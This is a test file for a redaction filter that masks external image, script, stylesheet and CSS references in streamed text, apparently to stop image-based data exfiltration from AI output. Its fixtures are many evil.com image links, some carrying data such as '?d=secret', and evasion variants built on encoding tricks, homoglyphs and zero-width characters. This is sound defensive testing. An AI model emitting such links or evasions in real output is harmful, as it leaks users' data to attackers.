import random

import pytest
from cpu_time import least_cpu_s
from hostile_texts import PROSE

from backstay.errors import UsageError
from backstay.guard import Redaction, TextStream, redact
from backstay.scan.image_latch import LATCH_KINDS, latch_rules
from backstay.scan.rule_pack import RulePack

LATCH = Redaction(RulePack(latch_rules(["ok.org", ".cdn.net"])), mask="#")

OUT = (
    ("![a](https://evil.com/x?d=1) b", "![a# b"),
    ("word![a](https://evil.com/x) b", "word![a# b"),
    ("![](//evil.com/x) b", "![# b"),
    ("![a [b] c](https://evil.com/x) d", "![a [b] c# d"),
    ("![a [b [c]] (d)](https://evil.com/x) d", "![a [b [c]] (d)# d"),
    ("![a\\]](https://evil.com/x) d", "![a\\]# d"),
    ("![a]( \n  <https://evil.com/a b>) c", "![a# c"),
    ('![a](https://evil.com/x "title") c', "![a# c"),
    ("![a](https:\\\\evil.com) b", "![a# b"),
    ("![a](https\\://evil.com) b", "![a# b"),
    ("![a](&#104;ttps://evil.com) b", "![a# b"),
    ("![a](ht&Tab;tps://evil.com) c", "![a# c"),
    ("![a](https://ok.org@evil.com/) b", "![a# b"),
    ("![a](https:" + "/" * 400 + "evil.com/) b", "![a# b"),
    ("![a](" + " " * 400 + "https://evil.com/) b", "![a# b"),
    ("![a](https://evil.com/" + "a" * 500 + ") b", "![a# b"),
    ("![a](https://\u043ek.org/x) b", "![a# b"),
    ("![a](https://o\u200bk.org/x) b", "![a# b"),
    ("!\u200b[a](https://evil.com/x) b", "!\u200b[a# b"),
    ("[![a](https://evil.com/i)](https://ok.org/) b", "[![a#](https://ok.org/) b"),
    ("![a][r]\n\n[r]: https://evil.com/q\nb", "![a][r]\n\n[r#b"),
    ("[r]:\n  <https://evil.com/q>\nb", "[r#b"),
    ("> [r]:\n> https://evil.com/q\nb", "> [r#b"),
    ("<img src=https://evil.com/?a> b", "# b"),
    ("<IMG\n SRC = 'https://evil.com/?a'> b", "# b"),
    ("<img/src=https://evil.com/> b", "# b"),
    ('<img alt="x>y" src=https://evil.com/> b', '#y" src=https://evil.com/> b'),
    ("<img alt=it's' x=\"b>\" src=https://evil.com> b", '#" src=https://evil.com> b'),
    ('<img srcset="a.png 1x, https://evil.com/b 2x"> b', "# b"),
    ('<img style="background:url(//evil.com/x)"> b', "# b"),
    ("<img " + "a " * 300 + "src=https://evil.com> b", "# b"),
    ('<script src="https://evil.com/x.js"></script>', "#</script>"),
    ("<link rel=stylesheet href=//evil.com/a.css>", "#"),
    ("p { background: URL( 'https://evil.com/x') }", "p { background: # }"),
    ("@import 'https://evil.com/a.css';b", "#b"),
)
KEPT = (
    "[a](https://evil.com/) b",
    "![a](https://ok.org/x?a=1&b=2#c) and ![b](https://a.cdn.net/" + "x" * 500 + ")",
    '![a](chart.png "A chart") ![b](/img/\u00e9t\u00e9.png) ![c]() ![d](#e)',
    "![a](data:image/png;base64,AAAA) ![b](sandbox:/mnt/data/plot.png)",
    '<img src=\'https://ok.org/?a=1&amp;b=2\' alt="Note: it\'s" style="width:3px"> <img src=a.png>',
    "[^1]: https://evil.com/q\nnext",
    "x[1]: y",
    "vec![[1, 2], [3, 4]](5); !arr[0](https) if ![ -e x ](",
    "`<img` or <imgs src=https://evil.com>",
    "p { background: url(a.png) }",
    "@import 'a.css';",
    "@import Foundation;",
    "a ]( https://evil.com )",
    "![a] (https://evil.com)",
)


@pytest.mark.parametrize(("text", "out"), OUT)
def test_what_loads_from_elsewhere_is_taken_out(text: str, out: str) -> None:
    assert redact(text, LATCH)[0] == out


@pytest.mark.parametrize("text", KEPT)
def test_what_does_not_is_kept(text: str) -> None:
    assert redact(text, LATCH)[0] == text


def test_a_stream_releases_the_same_whatever_the_pieces() -> None:
    rng = random.Random(3)
    texts = [text for text, _ in OUT] + list(KEPT)
    for text in [*texts, *("".join(rng.sample(texts, 3)) for _ in range(60))]:
        whole = redact(text, LATCH)[0]
        for size in (1, rng.randint(2, 9), 40):
            stream, out = TextStream(LATCH), ""
            for place in range(0, len(text), size):
                out += stream.feed(text[place : place + size])
                assert whole.startswith(out)
            assert out + stream.finish() == whole


def test_no_character_of_a_foreign_image_is_released() -> None:
    stream = TextStream(LATCH)
    assert stream.feed("see ![a](https://evil.co") == "see ![a" and stream.feed("m/?d=secret") == ""
    assert stream.feed(") end ") == "# end "


def test_what_begins_before_all_that_is_looked_at_counts_as_an_image() -> None:
    assert redact("![" + "a" * 1500 + "](https://evil.com/x) b", LATCH)[0].endswith("a# b")
    assert redact("![" + "a[b]" * 300 + "](https://evil.com/x) b", LATCH)[0].endswith("]# b")
    text = PROSE * 3 + "[a](https://evil.com/x) and [b [c]](https://evil.com/x)"
    assert redact(text, LATCH)[0] == text


def test_an_image_that_is_never_closed_ends_the_text() -> None:
    assert redact("![a](https://evil.com/" + "x" * 5000 + ") b", LATCH)[1].effect == "deny"


def test_kinds_are_chosen_and_named() -> None:
    assert {rule.kind for rule in latch_rules(kinds=["image_url"])} == {"image_url"}
    assert {rule.kind for rule in latch_rules()} == set(LATCH_KINDS)
    with pytest.raises(UsageError, match="known are image_url"):
        latch_rules(kinds=["img"])


@pytest.mark.hostile
@pytest.mark.parametrize(
    "piece",
    [
        "![",
        "![](",
        "![x](https://e.com/ ",
        "![[]](",
        "[]" * 20 + "](",
        "<img ",
        "<img src=1 ",
        "]: ",
        "[a]: x\n",
        "](1 ",
        "\\](",
    ],
)
def test_floods_cost_at_most_milliseconds_a_kilobyte(piece: str) -> None:
    pack = RulePack(latch_rules())
    list(pack.matches((piece * 20).encode()))
    text = (piece * (30_000 // len(piece))).encode()
    assert (
        least_cpu_s(lambda: list(pack.matches(text))) < 0.6
    )  # ten times the target, so that a busy machine does not fail it
